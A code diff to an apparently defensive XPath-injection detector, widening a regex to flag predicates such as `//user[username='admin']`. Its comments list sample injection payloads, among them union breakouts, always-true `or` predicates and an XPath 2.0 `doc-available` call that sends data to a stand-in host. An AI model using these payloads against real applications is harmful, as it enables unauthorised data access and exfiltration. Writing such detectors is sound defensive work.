@@ -7,7 +7,7 @@
  *   `[position()=1]`, `text()='x'` (jQuery's `.text()` is a method call, not this);
  * - axes: `child::node()`, `descendant-or-self::*`, `following-sibling::user`;
  * - XPath 2.0's fetching functions after a breakout: `' and doc-available(concat('//evil.example/', ...))`;
- * - predicates on a descendant path: `//user[@name=...]`, `//*[1]`;
+ * - predicates on a descendant path: `//user[@name=...]`, `//*[1]`, `//user[username='admin']`;
  * - a predicate closed and a second path joined by the union: `'] | //user/*`, `'] | //@*`, or the path
  *   going on from the selected node: `')]/../*`, or a second predicate on it: `'][@role='admin`;
  * - a predicate made true for every node by an `or`: `[name='admin' or '1'='1']`;
@@ -32,7 +32,7 @@ const NODE_FUNCTION = /(^|[^\w.$])(?:name|local-name|text|node|position|last|com
  */
 const AXIS = /\b(?:(?:ancestor|ancestor-or-self|descendant|descendant-or-self|following|following-sibling|preceding|preceding-sibling|child|attribute)::(?:\*|node\s*\(\s*\)|text\s*\(\s*\)|[A-Za-z_])|(?:parent|self)::(?:\*|node\s*\(\s*\)|text\s*\(\s*\)))/gi;
 /** Not after a host or a path (`example.com//a[1]` is a URL). */
-const PREDICATE = /(?:^|[^\w.:/%-])\/\/(?:\*|[A-Za-z_][\w.-]*)\[\s*(?:@|position\s*\(|last\s*\(|text\s*\(|contains\s*\(|\d+\s*\])/g;
+const PREDICATE = /(?:^|[^\w.:/%-])\/\/(?:\*|[A-Za-z_][\w.-]*)\[\s*(?:@|position\s*\(|last\s*\(|text\s*\(|contains\s*\(|\d+\s*\]|[A-Za-z_][\w.-]*\s*!?=)/g;
 /**
  * `'] | //user/*`, `')] | //*`: a quoted string, the calls and the predicate it sat in closed, then a
  * second path joined by the union.
